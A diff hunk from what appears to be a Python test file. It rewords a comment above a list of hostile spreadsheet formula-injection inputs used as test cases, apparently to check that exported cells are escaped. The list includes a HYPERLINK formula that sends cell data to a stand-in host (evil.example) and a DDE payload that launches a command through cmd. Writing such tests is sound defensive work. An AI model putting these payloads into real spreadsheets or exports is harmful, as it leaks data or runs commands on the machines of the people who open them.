@@ -27,7 +27,7 @@ from monitor.store import utcnow
 from monitor.store.schema import classifier_models
 from tests.factories import add_article
 
-# hardening.md 25: cells starting = + - @ tab CR; quotes and newlines inside
+# formula injection: cells starting = + - @ tab CR; quotes and newlines inside
 HOSTILE = [
     "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
     "+1+cmd|' /C calc'!A0",
